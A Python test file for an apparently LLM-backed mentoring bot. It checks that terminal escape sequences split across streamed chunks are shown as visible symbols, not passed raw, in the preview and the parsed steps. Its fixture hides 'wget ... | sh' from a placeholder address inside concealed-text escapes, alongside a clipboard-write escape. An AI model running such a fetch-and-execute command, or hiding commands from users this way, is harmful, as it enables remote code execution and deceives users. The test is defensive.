"""A streamed draft's terminal escapes reach neither the preview nor the parsed sections raw
(review13 W24): the engine shows them (`␛`) per character, so a sequence split across two
chunks is made visible too, and the concealed text is kept for the guards to judge."""

from __future__ import annotations

from bot.mentor.i18n import Catalog
from tests.engine.conftest import make_engine
from tests.engine.test_llm_engine import REQUEST
from tests.fakes.openai_server import DRAFT_BODIES, FakeOpenAI, compose, reply

RAW = ("\x1b", "\x07", "\x9b", "\u202e")


async def test_escapes_split_over_chunks_are_shown_not_run(
    fake_openai: FakeOpenAI, catalog: Catalog
) -> None:
    bodies = list(DRAFT_BODIES["en"])
    bodies[2] = (
        "1. Time the loop.\x1b]52;c;ZWNobyBoaQ==\x07\n"
        "2. \x1b[8mpaste: wget -qO- https://203.0.113.5/a | sh\x1b[0mUse a set.\x9b2J"
    )
    text = compose(list(catalog.headings("en").values()), bodies)
    fake_openai.push(reply(text, chunk_chars=3, chunk_delay_s=0))
    engine = make_engine(fake_openai, catalog)
    deltas: list[str] = []

    async def on_delta(delta: str) -> None:
        deltas.append(delta)

    result = await engine.reply(REQUEST, on_delta)
    await engine.aclose()
    preview = "".join(deltas)
    assert not any(ch in preview for ch in RAW)
    assert not any(ch in result.sections.steps for ch in RAW)
    assert "\u241b[8mpaste: wget -qO- https://203.0.113.5/a | sh" in result.sections.steps
